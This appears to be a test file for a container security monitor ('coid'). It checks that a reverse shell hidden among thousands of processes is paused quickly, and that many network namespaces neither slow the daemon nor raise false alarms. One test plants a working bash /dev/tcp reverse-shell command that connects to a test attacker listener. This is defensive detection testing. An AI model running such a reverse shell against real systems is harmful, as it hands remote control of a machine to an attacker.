// Goal: an attack hidden in a crowd (of processes, network namespaces, descriptors) is found as fast as any other, or the
// crowd itself is reported; and a crowd in one session does not delay coid's answers to others.
// Method: real containers with a private coid. The crowds end with their containers.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { Sampler } from '../../src/daemon/monitor/sampler.ts';
import { Allowance, runToEnd, threadTime } from '../../src/host/proc/allowance.ts';
import type { AuditRecord } from '../../src/monitor/audit.ts';
import { defaultSettings, type MonitorSettings } from '../../src/monitor/settings.ts';
import { slowdown } from '../bed/slowdown.ts';
import { type CoidBed, makeCoidBed } from '../incus/coid-bed.ts';
import { startAttacker } from './attacker.ts';
import { untilAudited } from './audited.ts';

const limit = { timeout: 240_000 };
/** The fork bomb detector is tested elsewhere, and detects crowds of thousands. */
const noBomb = { processes: 50_000, killGraceMs: 120_000 } as const;

function monitorConfig(settings: Partial<MonitorSettings> = {}) {
  return { 'user.coi.monitor': JSON.stringify({ ...defaultSettings, ...noBomb, ...settings }) };
}

/** Runs it detached from the exec that starts it. */
function plant({ sh }: CoidBed, container: string, command: string, user?: 'root') {
  return sh(container, `setsid sh -c '${command}' >/dev/null 2>&1 </dev/null &`, user);
}

async function records(bed: CoidBed, container: string): Promise<AuditRecord[]> {
  const { lines } = await bed.coid.audit(container, { after: 0, waitMs: 0 });
  return lines.map((line) => JSON.parse(line));
}

function untilWatched({ coid }: CoidBed, container: string): Promise<unknown> {
  return untilAudited(coid, container, ({ action }) => action === 'watch-started');
}

/** Ends when there are that many. */
const sleepers = (count: number) =>
  `for i in $(seq ${count}); do sleep 3600 >/dev/null 2>&1 </dev/null & done`;
/** Namespaces with sockets of both kinds: the first look into one walks the host's whole connection table. */
const namespaces = (count: number) =>
  `for i in $(seq ${count}); do unshare -n sh -c "nc -l -p 5000 & exec nc -lu -p 5000" >/dev/null 2>&1 </dev/null & done`;

test('a reverse shell behind many older processes is paused as fast as any', limit, async () => {
  await using bed = await makeCoidBed();
  await using remote = await startAttacker();
  const { container, nic } = await bed.session({ config: monitorConfig() });
  await untilWatched(bed, container);
  await bed.sh(container, sleepers(1300));
  await plant(bed, container, `bash -c "bash -i >& /dev/tcp/${nic.gateway}/${remote.port} 0>&1"`);
  await remote.connected;
  const started = performance.now();
  await bed.lifecycle.until('instance-paused', container);
  const tookMs = performance.now() - started;
  assert.ok(tookMs < 4000 * (await slowdown()), `paused after ${Math.round(tookMs)} ms`);
  const paused = (await records(bed, container)).filter(({ action }) => action === 'paused');
  assert.match(paused.map(({ title }) => title).join(), /Reverse shell/i);
});

test(
  'many network namespaces delay no answer of coid and are reported; a heavy load is not',
  limit,
  async () => {
    await using bed = await makeCoidBed();
    const { container } = await bed.session({ config: monitorConfig({ pauseOnHigh: false }) });
    await untilWatched(bed, container);
    // As much as forty Docker containers and a large build.
    await bed.sh(container, namespaces(40), 'root');
    await bed.sh(container, sleepers(1200));
    // Each is sampled separately: the first samples have the most to do, and the later ones would report whatever
    // they left for too long.
    for (let port = 6000; port < 6008; port += 1) {
      const tookMs = await untilListed(bed, container, port);
      assert.ok(tookMs < 5000 * (await slowdown()), `port ${port} after ${Math.round(tookMs)} ms`);
    }
    assert.deepEqual(
      (await records(bed, container)).filter(
        ({ level }) => level === 'high' || level === 'critical',
      ),
      [],
    );
    await bed.sh(container, namespaces(300), 'root');
    const slowestMs = await slowestAnswer(bed);
    assert.ok(slowestMs < 1000 * (await slowdown()), `slowest answer: ${Math.round(slowestMs)} ms`);
    await untilAudited(bed.coid, container, ({ title }) => title === 'Too much to check');
    // Control: without its limits one sample takes so long that all requests wait.
    const { pid } = await bed.incus.instanceState(container);
    const [limited, unlimited] = [sampleMs(container, pid, 1), sampleMs(container, pid, 1000)];
    assert.ok(limited < 300 && unlimited > 3 * limited, `${limited} and ${unlimited} ms`);
  },
);

/** Time until a new listener is logged. */
async function untilListed(bed: CoidBed, container: string, port: number): Promise<number> {
  await plant(bed, container, `nc -lk -p ${port}`);
  const startedMs = performance.now();
  const wanted = `port ${port}.`;
  await untilAudited(bed.coid, container, ({ description }) => description.endsWith(wanted));
  return performance.now() - startedMs;
}

async function slowestAnswer({ coid }: CoidBed): Promise<number> {
  let slowestMs = 0;
  for (let attempts = 0; attempts < 100; attempts += 1) {
    const startedMs = performance.now();
    await coid.status();
    slowestMs = Math.max(slowestMs, performance.now() - startedMs);
  }
  return slowestMs;
}

/** CPU time of the first sample of a new watcher with extended limits. */
function sampleMs(name: string, initPid: number, factor: number): number {
  const sampler = Sampler.of(
    {
      name,
      initPid,
      hostName: 'lo',
      address: '',
      gateway: '10.0.0.1',
      bridge: { address: '10.0.0.1', bits: 24 },
      network: 'open',
    },
    { now: () => new Date(), elapsedMs: () => performance.now() },
  );
  const startedMs = threadTime();
  assert.ok(sampler && runToEnd(sampler.sample(new Allowance(threadTime, factor))));
  return threadTime() - startedMs;
}
